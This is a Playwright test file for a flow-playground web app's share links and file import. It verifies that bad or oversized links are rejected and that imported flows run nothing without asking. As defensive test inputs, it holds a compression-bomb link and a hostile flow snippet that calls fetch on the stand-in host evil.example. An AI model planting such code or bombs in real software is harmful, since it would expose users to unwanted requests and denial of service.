import { deflateRawSync } from "node:zlib";
import type { Page } from "@playwright/test";
import { shortHash } from "../src/base/index.ts";
import { App, expect } from "./support/app.ts";
import { computeFlow, openFile, SAMPLE, test } from "./support/files.ts";

const linkOf = (url: string, text: string): string =>
  `${url}#flow=2.${shortHash(text)}.${deflateRawSync(text, { level: 9 }).toString("base64url")}`;

/** The link that Share makes of the open flow. */
async function share(app: App): Promise<string> {
  await app.button("Share").click();
  const field = app.page.getByRole("textbox", { name: "Link" });
  await expect(field).toHaveValue(/#flow=2\./);
  return field.inputValue();
}

/** Requests to anywhere but the app's own host. */
function watchRequests(page: Page, url: string): readonly string[] {
  const outside: string[] = [];
  page.context().on("request", (request) => {
    if (!request.url().startsWith(new URL(url).origin) && !/^(blob|data):/.test(request.url())) {
      outside.push(request.url());
    }
  });
  return outside;
}

test("a share link opens for reading; a copy of it can be changed, and is there after a reload", async ({
  app,
  browser,
}) => {
  const link = await share(app);
  const context = await browser.newContext({ viewport: { width: 1280, height: 800 } });
  const page = await context.newPage();
  const reader = new App(page);
  await reader.open(link);
  await expect(page.getByText("This is a preview of a shared flow")).toBeVisible();
  await reader.node("find_topic", "Infer").click();
  await page.keyboard.press("Delete");
  await expect(reader.node("find_topic", "Infer")).toBeVisible();

  await page.getByRole("button", { name: "Make a copy" }).click();
  await expect(page.getByText("This is a preview of a shared flow")).toHaveCount(0);
  await reader.node("find_topic", "Infer").click();
  await page.keyboard.press("Delete");
  await expect(reader.node("find_topic", "Infer")).toHaveCount(0);
  await expect(page.getByText("Saved", { exact: true })).toBeVisible();
  await page.reload();
  await expect(reader.node("classify_sentiment", "Infer")).toBeVisible();
  await expect(reader.node("find_topic", "Infer")).toHaveCount(0);
  await expect(page.getByText("This is a preview of a shared flow")).toHaveCount(0);
  await context.close();
});

test("a link that is cut off, newer, or a bomb says so, and what was open stays", async ({ app, page, url }) => {
  const whole = linkOf(url, SAMPLE);
  const bomb = linkOf(url, "0".repeat(200_000_000));
  for (const [link, words] of [
    [whole.slice(0, -200), "cut off"],
    [whole.replace("#flow=2.", "#flow=9."), "another version"],
    [bomb, "more than 20 MB"],
    [`${url}#flow=1.%%%`, "cut off or was changed"],
  ] as const) {
    await page.evaluate((hash) => {
      location.hash = hash;
    }, new URL(link).hash);
    await expect(page.getByText("The link could not be opened").filter({ hasText: words }).first()).toBeVisible();
    await expect(app.node("draft_response", "Infer", "idle")).toBeVisible();
  }
});

test("opening a flow from outside sends nothing and evaluates nothing; its first run asks", async ({
  app,
  page,
  url,
}) => {
  const outside = watchRequests(page, url);
  const hostile = computeFlow('globalThis.evaluated = true;\nfetch("https://evil.example/");\nreturn text;', {
    type: "string",
  });
  await openFile(app, JSON.stringify(hostile));
  await expect(app.node("judge", "Compute", "idle")).toBeVisible();
  await page.waitForTimeout(1_000);
  expect(outside).toEqual([]);
  expect(await page.evaluate(() => Reflect.has(globalThis, "evaluated"))).toBe(false);

  await openFile(app, SAMPLE);
  await expect(app.node("find_topic", "Infer", "idle")).toBeVisible();
  await app.button("Run").click();
  const question = page.getByRole("dialog", { name: "Run a flow that came from outside?" });
  await expect(question).toContainText("made up in this page");
  await question.getByRole("button", { name: "Not now" }).click();
  await expect(app.node("find_topic", "Infer", "idle")).toBeVisible();
  await app.button("Run").click();
  await question.getByRole("button", { name: "Run", exact: true }).click();
  await expect(app.node("draft_response", "Infer", "done")).toBeVisible();
  await app.run();
  expect(outside).toEqual([]);
});

test("with a live model, a flow from outside shows models, origins and the most it may cost", async ({ app, page }) => {
  await page.evaluate(() => {
    const model = { kind: "openai-compatible", model: "gpt-4o", baseUrl: "http://127.0.0.1:9/v1" };
    const remembered = { lastProject: null, settings: { model, confirmAbove: 1000 } };
    localStorage.setItem("stratum-playground/preferences", JSON.stringify(remembered));
  });
  await page.reload();
  await page.waitForFunction(() => navigator.serviceWorker.controller !== null);
  await openFile(app, SAMPLE);
  await expect(app.node("find_topic", "Infer", "idle")).toBeVisible();
  await app.button("Run").click();
  const models = page.getByRole("dialog", { name: "Model" });
  await models.getByRole("button", { name: "Go without" }).click();
  await models.getByRole("button", { name: "Done" }).click();
  await app.button("Run").click();
  const question = page.getByRole("dialog", { name: "Run a flow that came from outside?" });
  await expect(question).toContainText("gpt-4o");
  await expect(question).toContainText("http://127.0.0.1:9");
  await expect(question.getByRole("button", { name: /^Run for up to \$/ })).toBeVisible();
  await question.getByRole("button", { name: "Not now" }).click();
  await expect(app.node("find_topic", "Infer", "idle")).toBeVisible();
});
